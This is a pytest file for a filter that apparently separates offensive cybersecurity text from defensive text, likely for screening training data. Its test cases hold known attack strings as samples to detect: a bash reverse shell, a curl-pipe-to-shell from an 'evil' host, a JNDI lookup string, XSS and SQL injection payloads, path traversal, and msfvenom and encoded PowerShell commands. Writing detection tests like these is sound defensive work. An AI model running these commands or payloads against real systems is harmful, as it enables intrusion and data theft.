"""What helps to attack is refused by rule; what defenders write is not."""

from __future__ import annotations

from pathlib import Path

import pytest

from cybersecqwen.sample import FEED
from cybersecqwen.sources import read_vulnerabilities
from cybersecqwen.sources.attack import read_attack
from cybersecqwen.synthesis.checks import OFFENSIVE_DESCRIPTIONS, OFFENSIVE_RULES, offence


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        ("The exploit sends \\x90\\x90\\x90\\x90\\xcc to the port.", "shellcode"),
        ("Fill it with " + "A" * 64, "shellcode"),
        ("Enter <script>alert(1)</script> into the field.", "payload"),
        ("Use <img src=x onerror=alert(1)> as a name.", "payload"),
        ("Log in with admin' OR '1'='1 as a password.", "payload"),
        ("Append UNION SELECT user, pass FROM users to it.", "payload"),
        ("The header ${jndi:ldap://evil/a} is logged.", "payload"),
        ("Open ../../../../etc/passwd there.", "payload"),
        ("Run bash -i >& /dev/tcp/10.0.0.1/4444 0>&1.", "command"),
        ("msfvenom -p windows/shell makes it.", "command"),
        ("Then curl http://evil/x.sh | sh.", "command"),
        ("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi", "command"),
        ("A" + "bC3+" * 40 + "=", "encoded blob"),
        ("Write an exploit for this flaw.", "instruction"),
        ("Please give me a reverse shell payload.", "instruction"),
        ("How can I exploit this?", "instruction"),
        ("How would an attacker bypass the filter?", "instruction"),
        ("To exploit this vulnerability, first send a long header.", "instruction"),
        ("1. Craft a request.\n2. Send it.", "instruction"),
        ("Here is a working exploit.", "instruction"),
    ],
)
def test_an_attack_is_named_by_its_rule(text: str, rule: str) -> None:
    assert offence(text) == rule


@pytest.mark.parametrize(
    "text",
    [
        "Remote attackers can execute arbitrary SQL commands via the id parameter.",
        "A crafted <script> tag is not sanitised before output.",
        "Attackers may write shellcode into a suspended process.",
        "How can defenders mitigate this technique?",
        "How is the exploitation of this vulnerability detected?",
        "Block PowerShell by policy and log script blocks (event 4104).",
        "1. Isolate the host.\n2. Collect memory.",
        "An attacker could send a crafted packet to trigger this issue.",
        "What does an attacker need to exploit it, and how severe is it?",
    ],
)
def test_a_defenders_text_passes(text: str) -> None:
    assert offence(text) == ""


def test_every_rule_is_described_and_caught_by_an_example() -> None:
    assert set(OFFENSIVE_DESCRIPTIONS) == set(OFFENSIVE_RULES)


def test_of_the_sample_only_what_carries_a_payload_is_refused() -> None:
    found = {v.cve_id: v.description for v in read_vulnerabilities(FEED) if offence(v.description)}
    assert set(found) == {"CVE-2021-9000138", "CVE-2021-9000228"}
    assert "`../../etc/cron.d/x`" in found["CVE-2021-9000138"]
    assert "<img src=x onerror=alert(1)>" in found["CVE-2021-9000228"]


@pytest.mark.shared
def test_next_to_nothing_of_attack_is_refused(shared: Path) -> None:
    passages = read_attack(shared / "ics-attack.json.gz").passages
    assert sum(bool(offence(passage.text)) for passage in passages) <= len(passages) // 1000
